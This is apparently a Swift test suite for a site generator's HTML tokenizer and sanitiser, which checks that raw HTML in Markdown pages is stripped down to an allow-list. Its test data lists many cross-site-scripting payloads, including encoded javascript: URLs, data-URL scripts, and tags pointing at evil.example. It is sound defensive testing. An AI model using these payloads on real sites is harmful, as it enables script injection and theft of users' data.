import MarkdownAST
import SiteCore
import Testing

@testable import SiteRendering

/// The tokenizer reads tags as a browser does: the sanitiser's allow-list is only as good as
/// its reading of where a tag, an attribute and a value begin and end.
@Suite struct HTMLTokenizerTests {
    func tokens(_ html: String) -> [HTMLTokenizer.Token] {
        var tokenizer = HTMLTokenizer(html)
        var tokens: [HTMLTokenizer.Token] = []
        while let token = tokenizer.next() { tokens.append(token) }
        return tokens
    }

    func attributes(_ html: String) -> [String] {
        guard case let .startTag(_, attributes, _)? = tokens(html).first else { return [] }
        return attributes.map { "\($0.name)=\($0.value)" }
    }

    @Test func attributeValuesQuotedSingleQuotedAndBare() {
        #expect(attributes(#"<a href="x y" title='a "b"' data-n=3 hidden>"#) == ["href=x y", #"title=a "b""#, "data-n=3", "hidden="])
        #expect(attributes("<IMG SRC = x\tALT\n=\n'y'>") == ["src=x", "alt=y"])
        // A slash does not end a bare value; between attributes it separates them.
        #expect(attributes("<img/src=x/onerror=alert(1)>") == ["src=x/onerror=alert(1)"])
        #expect(attributes("<img src=x/ onerror=y>") == ["src=x/", "onerror=y"])
        // The first of two attributes with one name counts, as in browsers.
        #expect(attributes(#"<a href="/ok" HREF="javascript:x">"#) == ["href=/ok"])
        #expect(attributes(#"<a ="x" b>"#) == [#"="x"="#, "b="])
    }

    @Test func namesAreLowerCasedAndOffsetsPointAtThem() {
        #expect(
            tokens("<DiV OnClick=x>") == [
                .startTag(name: "div", attributes: [.init(name: "onclick", value: "x", offset: 5)], offset: 0)
            ])
        #expect(tokens("a</SPAN >b") == [.text("a"), .endTag(name: "span", offset: 1), .text("b")])
    }

    @Test func commentsDoctypesAndProcessingInstructionsAreComments() {
        #expect(tokens("a<!-- x -->b") == [.text("a"), .comment, .text("b")])
        #expect(tokens("<!-->a<!--->b") == [.comment, .text("a"), .comment, .text("b")])
        #expect(tokens("<!-- x --!>b") == [.comment, .text("b")])
        #expect(tokens("<!DOCTYPE html><?php x ?></ b></>c") == [.comment, .comment, .comment, .comment, .text("c")])
        #expect(tokens("<!-- never closed <b>") == [.comment])
    }

    /// A `<` that starts no tag, or a tag the fragment ends inside, is text.
    @Test func aTagTheFragmentEndsInsideIsText() {
        #expect(tokens("a < b") == [.text("a "), .text("<"), .text(" b")])
        #expect(tokens("<img src=x onerror=alert(1)") == [.text("<"), .text("img src=x onerror=alert(1)")])
        #expect(tokens(#"<a title="never closed>x"#) == [.text("<"), .text(#"a title="never closed>x"#)])
        #expect(tokens("<3 and <") == [.text("<"), .text("3 and "), .text("<")])
    }

    @Test func rawTextIsSkippedToItsEndTag() {
        var tokenizer = HTMLTokenizer("<script>if (a</b) x = '</scripty>'</SCRIPT >after")
        #expect(tokenizer.next() == .startTag(name: "script", attributes: [], offset: 0))
        tokenizer.skipRawText(of: "script")
        #expect(tokenizer.next() == .text("after"))
    }
}

@Suite struct HTMLSanitizerTests {
    func sanitized(_ fragment: String) -> String {
        var sanitizer = HTMLSanitizer()
        return sanitizer.sanitize(fragment).html + sanitizer.endScope()
    }

    func removals(_ fragment: String) -> [String] {
        var sanitizer = HTMLSanitizer()
        return sanitizer.sanitize(fragment).removals.map(\.description)
    }

    /// Hostile fragments, each with what is left of it.
    static let hostile: [(String, String)] = [
        ("<img src=x onerror=alert(1)>", #"<img src="x">"#),
        (#"<div onclick="alert(1)" class=note>hi</div>"#, "<div>hi</div>"),
        (#"<a href="javascript:alert(1)">x</a>"#, "<a>x</a>"),
        (#"<a href=JaVaScRiPt:alert(1)>x</a>"#, "<a>x</a>"),
        (#"<a href="java&#115;cript:alert(1)">x</a>"#, "<a>x</a>"),
        (#"<a href="&#x6A;avascript&colon;alert(1)">x</a>"#, "<a>x</a>"),
        (#"<a href="javascript&#58;alert(1)">x</a>"#, "<a>x</a>"),
        (#"<a href="&#0000106avascript:alert(1)">x</a>"#, "<a>x</a>"),
        ("<a href=\"java\tscript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\"java&Tab;scr&NewLine;ipt:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\" \u{0E}javascript:alert(1)\">x</a>", "<a>x</a>"),
        (#"<a href="java&fjlig;:x">x</a>"#, "<a>x</a>"),
        (#"<a href="vbscript:msgbox(1)">x</a>"#, "<a>x</a>"),
        (#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#, "<a>x</a>"),
        (#"<img src="data:image/svg+xml,<svg onload=alert(1)>">"#, "<img>"),
        (#"<img src="data:text/html;base64,PHNjcmlwdD4=">"#, "<img>"),
        ("<script>alert(1)</script>after", "after"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ""),
        ("<script>never closed", ""),
        ("<style>body { display: none }</style>", ""),
        ("<iframe src=//evil.example></iframe>", ""),
        ("<object data=x.swf></object><embed src=x.swf>", ""),
        ("<form action=//evil.example><input name=q><button>Go</button></form>", "Go"),
        ("<svg><script>alert(1)</script></svg><math><mi>x</mi></math>", ""),
        (#"<div style="position: fixed; inset: 0">x</div>"#, "<div>x</div>"),
        ("<meta http-equiv=refresh content=0;url=//evil.example><base href=//evil.example/><link rel=stylesheet href=x>", ""),
        ("<textarea><img src=x onerror=alert(1)></textarea>", ""),
        ("<img src=x\nonerror=alert(1)", "&lt;img src=x\nonerror=alert(1)"),
        ("<!-- <img src=x onerror=alert(1)> -->", ""),
        ("<!-- never closed <img src=x onerror=alert(1)>", ""),
        (#"<a title='a "b" <c>'>x</a>"#, #"<a title="a &quot;b&quot; &lt;c&gt;">x</a>"#),
        ("</div></div></main>text", "text"),
        ("<div><span>x</div>", "<div><span>x</span></div>"),
        ("<div><b>open", "<div><b>open</b></div>"),
    ]

    @Test(arguments: hostile.indices)
    func hostileFragmentsKeepOnlyTheAllowList(_ index: Int) {
        let (fragment, expected) = Self.hostile[index]
        #expect(sanitized(fragment) == expected, "\(fragment)")
    }

    static let allowed = [
        #"<details open><summary>More</summary><p>Text <kbd>⌘K</kbd> <sub>1</sub><sup>2</sup></p></details>"#,
        #"<a href="https://example.com/a?b=1&amp;c=2#d" title="T">x</a>"#,
        ##"<a href="mailto:team@example.com">mail</a> <a href="../guide.html#a:b">rel</a> <a href="#top">top</a>"##,
        #"<img src="logo.png" alt="Logo" width="40" height="20">"#,
        #"<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">"#,
        #"<p align="center">a<br>b</p><hr>"#,
        #"<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">c</td></tr></tbody></table>"#,
        #"<dl><dt>t</dt><dd>d</dd></dl><ol start="3"><li>x</li></ol>"#,
        "a &lt; b &amp; c &copy; d",
    ]

    @Test(arguments: allowed)
    func theAllowListIsKeptAsWritten(_ fragment: String) {
        #expect(sanitized(fragment) == fragment)
        #expect(removals(fragment) == [])
    }

    @Test func eachRemovalIsNamed() {
        #expect(
            removals(#"<div onclick="x" style="y"><script>z</script><iframe></iframe><a href="javascript:x">"#) == [
                "'onclick' attribute of <div>", "'style' attribute of <div>", "<script> element and its content",
                "<iframe> element and its content", "'javascript:' URL in 'href' of <a>",
            ])
        #expect(removals("<form><input>") == ["<form> tag", "<input> tag"])
    }

    /// An end tag closes only what raw HTML opened in the same Markdown container.
    @Test func endTagsStayInTheirContainer() {
        var sanitizer = HTMLSanitizer()
        var html = sanitizer.sanitize("<div>").html
        sanitizer.beginScope()
        html += sanitizer.sanitize("<span>").html
        html += sanitizer.sanitize("</div>").html
        html += sanitizer.endScope()
        html += sanitizer.sanitize("</div>").html
        #expect(html == "<div><span></span></div>")
        #expect(sanitizer.endScope() == "")
    }

    @Test func urlSchemesAsABrowserReadsThem() {
        #expect(URLSafety.scheme(of: " \u{1}Java\nScript:x") == "javascript")
        #expect(URLSafety.scheme(of: "page.html") == nil)
        #expect(URLSafety.scheme(of: "a/b:c") == nil)
        #expect(URLSafety.scheme(of: "1http:x") == nil)
        #expect(URLSafety.isSafe("guides/a:b.html", isImage: false))
        #expect(URLSafety.isSafe("?q=a:b", isImage: false))
        #expect(URLSafety.isSafe("HTTPS://example.com", isImage: false))
        #expect(!URLSafety.isSafe("data:image/png;base64,AA", isImage: false))
        #expect(URLSafety.isSafe("data:image/png;base64,AA", isImage: true))
        #expect(!URLSafety.isSafe("file:///etc/passwd", isImage: true))
    }
}

/// The page-level policy: raw HTML sanitised (with a warning at each removal's line and
/// column), kept, or shown as text; Markdown links and images get the same URL check.
@Suite struct HTMLPolicyTests {
    func render(_ markdown: String, policy: RawHTMLPolicy = .sanitize) -> HTMLRenderer.Output {
        HTMLRenderer(file: "page.md", htmlPolicy: policy).render(MarkdownParser.parse(markdown))
    }

    static let page = """
        # Title

        Text with <span onmouseover="x">inline</span> HTML.

        <div class="note">
          <img src=x
               onerror=alert(1)>
        </div>

        [link](javascript:alert(1)) and ![pic](vbscript:x) and [ok](https://example.com)

        """

    @Test func sanitizedByDefaultWithAWarningAtEachRemoval() {
        let output = render(Self.page)
        #expect(output.html.contains(#"Text with <span>inline</span> HTML."#))
        #expect(output.html.contains("<div>\n  <img src=\"x\">\n</div>"))
        #expect(output.html.contains(#"<p>link and pic and <a href="https://example.com">ok</a></p>"#))
        #expect(
            output.diagnostics.map { "\($0.location!.line):\($0.location!.column) \($0.message.prefix { $0 != ";" })" } == [
                "3:17 raw HTML removed: 'onmouseover' attribute of <span>",
                "5:6 raw HTML removed: 'class' attribute of <div>",
                "7:8 raw HTML removed: 'onerror' attribute of <img>",
                "10:1 link removed: 'javascript:' URLs are not allowed (http, https, mailto and relative ones are)",
                "10:33 image removed: 'vbscript:' URLs are not allowed (http, https, mailto and relative ones are)",
            ])
        #expect(output.diagnostics.allSatisfy { $0.severity == .warning && $0.location?.file == "page.md" })
    }

    @Test func unsafeKeepsRawHTMLAndURLsAsWritten() {
        let output = render(Self.page, policy: .unsafe)
        #expect(output.html.contains(#"<span onmouseover="x">inline</span>"#))
        #expect(output.html.contains("onerror=alert(1)>"))
        #expect(output.html.contains(#"<a href="javascript:alert(1)">link</a>"#))
        #expect(output.diagnostics.isEmpty)
    }

    @Test func escapeShowsRawHTMLAsText() {
        let output = render(Self.page, policy: .escape)
        #expect(output.html.contains("Text with &lt;span onmouseover=&quot;x&quot;&gt;inline&lt;/span&gt; HTML."))
        #expect(output.html.contains("<p>&lt;div class=&quot;note&quot;&gt;\n  &lt;img src=x"))
        #expect(!output.html.contains("javascript:"))
        #expect(output.diagnostics.count == 2)
    }

    /// A page cannot close the theme's elements around it, nor leave its own open.
    @Test func aPageCannotCloseOrLeaveOpenWhatSurroundsIt() {
        let html = render("</div></main>\n\n- <div>item\n\n  text\n\n> <b>quote\n\nafter <em>open\n").html
        #expect(!html.contains("</main>"))
        #expect(html.contains("<li><div>item\n<p>text</p>\n</div></li>"))
        #expect(html.contains("<blockquote>\n<p><b>quote</b></p>\n</blockquote>"))
        #expect(html.contains("<p>after <em>open</em></p>"))
        #expect(html.components(separatedBy: "<div>").count == html.components(separatedBy: "</div>").count)
    }
}
